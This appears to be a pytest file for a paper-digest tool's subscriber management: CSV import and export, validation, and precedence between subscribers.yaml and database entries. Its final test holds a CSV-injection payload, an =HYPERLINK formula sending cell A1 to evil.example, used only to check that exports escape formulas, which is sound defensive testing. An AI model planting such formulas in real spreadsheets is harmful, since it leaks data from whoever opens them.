"""`digest subscribers`: subscribers kept in the database beside subscribers.yaml's, as an admin
manages them (list, add, remove, import, export), and the rule between the two origins."""

from __future__ import annotations

import csv
import io
import json
import time
from pathlib import Path

import pytest

from .smtp_server import SmtpServer
from .test_deliver import Template, digest_cli, fetch_template, setup

pytestmark = [pytest.mark.database]  # on PostgreSQL too (.ci/run)

YAML_PEOPLE = ["reader0@example.org", "reader1@example.org"]


@pytest.fixture(scope="module")
def samples(tmp_path_factory) -> Template:
    """The samples fetched once into the backend under test; each test starts from a copy."""
    return fetch_template(tmp_path_factory.mktemp("fetched"))


def rows(count: int) -> list[dict[str, str]]:
    return [{"email": f"person{n:04d}@example.org", "name": f"Person {n}",
             "topics": "language model; Agents: tool use, web agent" if n % 2 else "LLM",
             "schedule": "daily 07:30" if n % 3 else "", "timezone": "Europe/Berlin" if n % 5 else "",
             "max_papers": str(10 + n % 5) if n % 7 else ""} for n in range(count)]


def write_csv(path: Path, people: list[dict[str, str]], bad: dict[int, dict[str, str]] | None = None) -> Path:
    """`people` as CSV; `bad`: rows (by index) with these cells spoiled."""
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(people[0]), lineterminator="\n")
    writer.writeheader()
    for n, person in enumerate(people):
        writer.writerow({**person, **(bad or {}).get(n, {})})
    path.write_text(out.getvalue(), encoding="utf-8")
    return path


def listed(config: Path) -> list[dict]:
    result = digest_cli("subscribers", "list", "--format", "json", config=config)
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout)


def test_an_import_with_bad_rows_reports_every_one_by_line_and_changes_nothing(tmp_path, samples):
    config = setup(tmp_path, samples, 25, YAML_PEOPLE)
    people = rows(2000)
    bad = {
        11: {"email": "not-an-address"},
        250: {"timezone": "Mars/Olympus"},
        999: {"max_papers": "ten"},
        1500: {"topics": "x" * 5001 + "; ;"},  # a keyword over the limit
        1998: {"email": "person0007@example.org"},  # an address already on an earlier line
    }
    bad[1500] = {"topics": "!!!"}  # a keyword with nothing to match
    spoiled = write_csv(tmp_path / "people.csv", people, bad)
    result = digest_cli("subscribers", "import", str(spoiled), config=config)
    assert result.returncode == 2, result.stdout + result.stderr
    lines = {int(part.split(":")[1].split()[0]) for part in result.stderr.splitlines() if part.startswith("error:")
             for part in [part.removeprefix("error: ")] if part.startswith(str(spoiled))}
    assert lines == {n + 2 for n in bad}, result.stderr  # the header is line 1
    assert "Mars/Olympus" in result.stderr and "already on line 9" in result.stderr
    assert f"5 problems in {spoiled}: nothing was imported" in result.stderr  # not "in the configuration"
    assert [p["email"] for p in listed(config)] == YAML_PEOPLE  # nothing imported

    fixed = write_csv(tmp_path / "people.csv", people)
    started = time.monotonic()
    result = digest_cli("subscribers", "import", str(fixed), config=config)
    took = time.monotonic() - started
    assert result.returncode == 0, result.stderr
    assert "2000 rows: 2000 added, 0 updated" in result.stdout
    assert took < 30, took  # "in seconds" (the process's start-up included; CI is shared)
    everyone = {p["email"]: p for p in listed(config)}
    assert len(everyone) == 2002
    assert everyone["person0001@example.org"]["topics"] == "language model; Agents: tool use, web agent"
    assert everyone["person0001@example.org"]["origin"] == "admin" and everyone["reader0@example.org"]["origin"] == "config"
    assert everyone["person0003@example.org"]["max_papers"] == "13" and everyone["person0003@example.org"]["timezone"] == "Europe/Berlin"
    assert everyone["person0005@example.org"]["timezone"] == ""  # the configuration's default, not pinned
    assert everyone["person0005@example.org"]["effective_schedule"] == "daily 07:30 UTC"
    again = digest_cli("subscribers", "import", str(fixed), config=config)
    assert "0 added, 0 updated" in again.stdout  # importing the same file again changes nothing


def test_export_then_import_elsewhere_gives_the_same_subscribers(tmp_path, samples):
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    first = setup(tmp_path / "a", samples, 25, YAML_PEOPLE)
    topics = json.dumps([{"name": "Inference", "keywords": ["KV cache"], "exclude": ["survey"]},
                         {"name": "Dao", "authors": ["Tri Dao"]}])
    write_csv(tmp_path / "in.csv", [{"email": "ada@example.org", "name": "Ada, Countess", "topics": topics},
                                    {"email": "bob@example.org", "name": "", "topics": "RAG; Agents: tool use"}])
    assert digest_cli("subscribers", "import", str(tmp_path / "in.csv"), config=first).returncode == 0
    typo = digest_cli("unsubscribe", "bobb@example.org", config=first)  # a did-you-mean among the database's too
    assert typo.returncode == 2 and "did you mean 'bob@example.org'" in typo.stderr, typo.stderr
    exported = digest_cli("subscribers", "export", config=first)
    assert exported.returncode == 0, exported.stderr
    (tmp_path / "out.csv").write_text(exported.stdout, encoding="utf-8")
    again = digest_cli("subscribers", "import", str(tmp_path / "out.csv"), config=first)
    assert again.returncode == 0 and "0 added, 0 updated, 2 unchanged; 2 rows of origin config skipped" in again.stdout

    second = setup(tmp_path / "b", samples, 25, YAML_PEOPLE)
    result = digest_cli("subscribers", "import", str(tmp_path / "out.csv"), config=second)
    assert result.returncode == 0, result.stderr
    before = {p["email"]: p["settings"] for p in listed(first)}
    after = {p["email"]: p["settings"] for p in listed(second)}
    assert before == after and before["ada@example.org"]["topics"][0]["exclude"] == ["survey"]
    # Every subscriber in the export, subscribers.yaml's too (marked config: an import skips them elsewhere).
    assert {r["email"]: r["origin"] for r in csv.DictReader(io.StringIO(exported.stdout))} == {
        "ada@example.org": "admin", "bob@example.org": "admin", **dict.fromkeys(YAML_PEOPLE, "config")}


def test_an_export_read_back_here_leaves_the_web_s_subscribers_to_them(tmp_path, samples):
    """Importing this list's own export back failed on every row of someone who signed up on
    the web ("origin self"): those rows are theirs, left as they are, and said so."""
    from datetime import UTC, datetime

    from digest.config import Subscriber, load_config
    from digest.deliver import roster
    from digest.store import open_store
    from digest.store.directory import Directory

    path = setup(tmp_path, samples, 25, YAML_PEOPLE)
    config = load_config(path)
    web = Subscriber.model_validate({"email": "eve@example.org", "topics": [{"name": "RAG", "keywords": ["RAG"]}]})
    now = datetime.now(UTC)
    Directory(open_store(config)).put("self", [roster.as_wanted(config, web)], now,
                                       lambda schedule, timezone: roster.first_due(schedule, timezone, now))
    write_csv(tmp_path / "in.csv", [{"email": "ada@example.org", "name": "Ada", "topics": "KV cache"}])
    assert digest_cli("subscribers", "import", str(tmp_path / "in.csv"), config=path).returncode == 0
    (tmp_path / "out.csv").write_text(digest_cli("subscribers", "export", config=path).stdout, encoding="utf-8")
    again = digest_cli("subscribers", "import", str(tmp_path / "out.csv"), config=path)
    assert again.returncode == 0, again.stderr
    assert "2 rows: 0 added, 0 updated, 1 unchanged; 1 of people who signed up on the web left as they are" in again.stdout
    origins = {p["email"]: p["origin"] for p in listed(path)}
    assert origins["eve@example.org"] == "self" and origins["ada@example.org"] == "admin"


def test_an_edit_of_the_default_schedule_reaches_the_database_s_subscribers(tmp_path, samples):
    """Those imported without a schedule kept the default of the day they were imported: the
    planner's index read it, so the new default's slot went unsent while `status` said due."""
    from digest.config import load_config
    from digest.store import open_store
    from digest.store.directory import Directory

    path = setup(tmp_path, samples, 25, YAML_PEOPLE, defaults="  schedule: daily 07:30\n")
    write_csv(tmp_path / "in.csv", [{"email": "ada@example.org", "topics": "KV cache", "schedule": ""},
                                    {"email": "bob@example.org", "topics": "RAG", "schedule": "daily 06:00"}])
    assert digest_cli("subscribers", "import", str(tmp_path / "in.csv"), config=path).returncode == 0
    path.write_text(path.read_text().replace("schedule: daily 07:30", "schedule: daily 09:15"))
    assert digest_cli("status", config=path).returncode == 0  # any command reads the changed file
    rows = Directory(open_store(load_config(path))).get(["ada@example.org", "bob@example.org"])
    assert rows["ada@example.org"].schedule == "daily 09:15" and rows["ada@example.org"].next_due.strftime("%H:%M") == "09:15"
    assert rows["bob@example.org"].schedule == "daily 06:00"  # their own stays theirs


def test_add_and_remove_refuse_what_subscribers_yaml_holds(tmp_path, samples):
    config = setup(tmp_path, samples, 25, YAML_PEOPLE)
    added = digest_cli("subscribers", "add", "ada@example.org", "--name", "Ada", "--topic", "KV cache",
                       "--topic", "Agents: tool use, web agent", "--timezone", "Asia/Tokyo", config=config)
    assert added.returncode == 0, added.stderr
    ada = {p["email"]: p for p in listed(config)}["ada@example.org"]
    assert ada["topics"] == "KV cache; Agents: tool use, web agent" and ada["timezone"] == "Asia/Tokyo"
    assert ada["state"] == "active" and ada["next_due"] and "ada@example.org added (2 topics)" in added.stdout
    speech = '[{"name": "Speech", "description": "Speech recognition and synthesis."}]'  # a sentence alone, as JSON
    described = digest_cli("subscribers", "add", "bea@example.org", "--topic", speech, config=config)
    assert described.returncode == 0 and "bea@example.org added (1 topic)" in described.stdout
    bea = {p["email"]: p for p in listed(config)}["bea@example.org"]
    assert bea["settings"]["topics"] == [{"name": "Speech", "description": "Speech recognition and synthesis."}]
    assert digest_cli("subscribers", "remove", "bea@example.org", config=config).returncode == 0

    twice = digest_cli("subscribers", "add", "ADA@example.org", "--topic", "RAG", config=config)
    assert twice.returncode == 2 and "already a subscriber" in twice.stderr
    theirs = digest_cli("subscribers", "add", "reader0@example.org", "--topic", "RAG", config=config)
    assert theirs.returncode == 2 and "subscribers.yaml" in theirs.stderr
    invalid = digest_cli("subscribers", "add", "eve@example.org", "--topic", "RAG", "--timezone", "Nowhere", config=config)
    assert invalid.returncode == 2 and "Nowhere" in invalid.stderr
    # no topics and no trending list: refused, as `digest validate` refuses it in subscribers.yaml
    nothing = digest_cli("subscribers", "add", "eve@example.org", config=config)
    assert nothing.returncode == 2 and "no topics, so would never get a digest" in nothing.stderr
    empty = write_csv(tmp_path / "empty.csv", [{"email": "eve@example.org", "topics": "", "trending": ""},
                                               {"email": "fay@example.org", "topics": "", "trending": "5"}])
    refused = digest_cli("subscribers", "import", str(empty), config=config)
    assert refused.returncode == 2 and f"{empty}:2 topics: eve@example.org: no topics" in refused.stderr
    assert "fay@" not in refused.stderr  # the trending list alone is a digest
    kept = digest_cli("subscribers", "remove", "reader1@example.org", config=config)
    assert kept.returncode == 2 and "subscribers.yaml" in kept.stderr
    nobody = digest_cli("subscribers", "remove", "zed@example.org", config=config)
    assert nobody.returncode == 2 and "no subscriber" in nobody.stderr

    table = digest_cli("subscribers", "list", config=config)
    assert table.returncode == 0 and "3 subscribers" in table.stdout and "admin" in table.stdout
    assert digest_cli("subscribers", "remove", "ada@example.org", config=config).returncode == 0
    assert [p["email"] for p in listed(config)] == YAML_PEOPLE


def test_a_reload_of_subscribers_yaml_never_undoes_a_database_subscriber(tmp_path, samples):
    config = setup(tmp_path, samples, 25, YAML_PEOPLE)
    assert digest_cli("subscribers", "add", "ada@example.org", "--topic", "RAG", config=config).returncode == 0
    # The admin now also lists Ada in the file, with other topics, and edits the file again.
    with config.open("a", encoding="utf-8") as file:  # subscribers come last in the file
        file.write("  - email: ada@example.org\n    topics:\n      - name: Mine\n        keywords: [LLM]\n")
    result = digest_cli("subscribers", "list", "--format", "json", config=config)
    ada = {p["email"]: p for p in json.loads(result.stdout)}["ada@example.org"]
    assert ada["origin"] == "admin" and ada["topics"] == "RAG"
    assert "ada@example.org" in result.stderr and "ignored" in result.stderr  # the admin is told
    config.write_text(config.read_text(encoding="utf-8").replace("[language model, LLM]", "[RAG]"), encoding="utf-8")
    everyone = {p["email"]: p for p in listed(config)}
    # Another edit of the file: its own subscribers change, Ada's row stays the database's.
    assert everyone["ada@example.org"]["origin"] == "admin" and everyone["ada@example.org"]["topics"] == "RAG"
    assert everyone["reader0@example.org"]["topics"] == "LLMs: RAG"


def test_a_database_subscriber_is_sent_previewed_and_unsubscribed_like_any_other(tmp_path, samples):
    with SmtpServer() as server:
        config = setup(tmp_path, samples, server.port, YAML_PEOPLE)
        assert digest_cli("subscribers", "add", "ada@example.org", "--topic", "language model",
                          config=config).returncode == 0
        preview = digest_cli("preview", "ada@example.org", "--format", "json", config=config)
        assert preview.returncode == 0 and json.loads(preview.stdout)["sections"], preview.stderr
        sent = digest_cli("send", config=config)
        assert sent.returncode == 0 and "3 sent" in sent.stdout, sent.stdout + sent.stderr
        assert "ada@example.org" in {m["To"] for m in server.handler.received}
        named = digest_cli("send", "ada@example.org", "--dry-run", config=config)
        assert named.returncode == 0 and "ada@example.org" in named.stdout
        gone = digest_cli("unsubscribe", "ada@example.org", config=config)
        assert gone.returncode == 0
        assert {p["email"]: p["state"] for p in listed(config)}["ada@example.org"] == "unsubscribed"
        status = json.loads(digest_cli("status", "--format", "json", config=config).stdout)
        assert {r["subscriber"]: r["status"] for r in status}["ada@example.org"] == "unsubscribed"


@pytest.mark.no_postgresql
def test_an_export_keeps_every_setting_of_a_subscriber(tmp_path, samples):
    """A paused subscriber comes back paused: the export wrote no column for enabled,
    paused_until, lookback, send_empty or max_per_topic, so an import elsewhere lost them."""
    config = setup(tmp_path, samples, 25, YAML_PEOPLE)
    sheet = tmp_path / "more.csv"
    sheet.write_text("email,topics,enabled,paused_until,lookback,send_empty,max_per_topic\n"
                     "zoe@example.org,KV cache,false,2027-01-05,3d,true,2\n", encoding="utf-8")
    assert "1 row: 1 added" in digest_cli("subscribers", "import", str(sheet), config=config).stdout
    exported = digest_cli("subscribers", "export", config=config).stdout
    zoe = next(row for row in csv.DictReader(io.StringIO(exported)) if row["email"] == "zoe@example.org")
    assert {k: zoe[k] for k in ("enabled", "paused_until", "lookback", "send_empty", "max_per_topic", "state")} == {
        "enabled": "false", "paused_until": "2027-01-05", "lookback": "3d", "send_empty": "true",
        "max_per_topic": "2", "state": "paused"}
    (tmp_path / "elsewhere").mkdir()
    elsewhere = setup(tmp_path / "elsewhere", samples, 25, YAML_PEOPLE)
    again = tmp_path / "again.csv"
    again.write_text(exported, encoding="utf-8")
    assert digest_cli("subscribers", "import", str(again), config=elsewhere).returncode == 0
    back = next(row for row in listed(elsewhere) if row["email"] == "zoe@example.org")
    assert back["settings"] == next(row for row in listed(config) if row["email"] == "zoe@example.org")["settings"]
    assert back["state"] == "paused"


def test_a_spreadsheets_semicolon_or_tab_separated_file_imports_too():
    from digest.subscribe.csv_rows import read_subscribers

    semicolons = 'email;name;topics\r\nada@example.org;Ada;"KV cache; Agents: tool use, web agent"\r\n'
    tabs = "email\tname\ttopics\nada@example.org\tAda\tKV cache; Agents: tool use, web agent\n"
    for text in (semicolons, "\ufeff" + semicolons, tabs):
        (line, ada), = read_subscribers(text, "people.csv")[0]
        assert line == 2 and ada.name == "Ada"
        assert [(t.name, t.keywords) for t in ada.topics] == [("KV cache", ["KV cache"]),
                                                              ("Agents", ["tool use", "web agent"])]


@pytest.mark.no_postgresql
@pytest.mark.parametrize("topic", [
    {"name": "KV cache", "keywords": ["KV cache"], "examples": ["2406.01234"]},
    {"name": "Inference", "keywords": ["KV cache"], "description": "Making LLM inference cheaper."},
    {"name": "Speech", "description": "Automatic speech recognition and speech synthesis."},  # a sentence alone
    {"name": "Agents", "keywords": ["agent"], "sensitivity": 2},
    {"name": "Language models", "keywords": ["language model"], "preset": "Language models"},
], ids=["examples", "description", "description alone", "sensitivity", "preset"])
def test_a_csv_export_keeps_everything_a_topic_says(topic):
    """Every setting of a topic comes back from its CSV cell (it was written in the short
    form, "Name: keyword", dropping a description, a sensitivity or a preset)."""
    from digest.config import Topic
    from digest.subscribe.csv_rows import parse_topics, topics_cell

    topics = [Topic(name="Plain", keywords=["plain"]), Topic(**topic)]
    assert [Topic.model_validate(t) for t in parse_topics(topics_cell(topics))] == topics
    assert topics_cell(topics[:1]) == "Plain: plain"  # keywords alone: still the short form


def test_an_export_never_hands_a_spreadsheet_a_formula_and_reads_its_own_cells_back(tmp_path, samples):
    """A name typed on the public sign-up page as =HYPERLINK(…) ran as a formula in the admin's
    spreadsheet (CSV injection): it is written as text ('=…), and an import reads it back as typed."""
    config = setup(tmp_path, samples, 25, YAML_PEOPLE)
    sheet = tmp_path / "formula.csv"
    name = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    with sheet.open("w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows([["email", "name", "topics"], ["mallory@example.org", name, "@SUM(1+1): +cmd"],
                                   ["ann@example.org", "'Tis Ann", "KV cache"]])
    assert "2 rows: 2 added" in digest_cli("subscribers", "import", str(sheet), config=config).stdout
    exported = digest_cli("subscribers", "export", config=config).stdout
    rows = {row["email"]: row for row in csv.DictReader(io.StringIO(exported))}
    assert rows["mallory@example.org"]["name"] == "'" + name
    assert rows["mallory@example.org"]["topics"] == "'@SUM(1+1): +cmd"
    assert rows["ann@example.org"]["name"] == "'Tis Ann"  # an apostrophe before a letter is the name's own
    assert not [cell for row in rows.values() for cell in row.values() if cell[:1] in ("=", "+", "-", "@")]
    (tmp_path / "elsewhere").mkdir()
    elsewhere = setup(tmp_path / "elsewhere", samples, 25, YAML_PEOPLE)
    again = tmp_path / "again.csv"
    again.write_text(exported, encoding="utf-8")
    assert digest_cli("subscribers", "import", str(again), config=elsewhere).returncode == 0
    back = {row["email"]: row["settings"] for row in listed(elsewhere)}
    assert back["mallory@example.org"]["name"] == name and back["ann@example.org"]["name"] == "'Tis Ann"
    assert back["mallory@example.org"]["topics"] == [{"name": "@SUM(1+1)", "keywords": ["+cmd"]}]
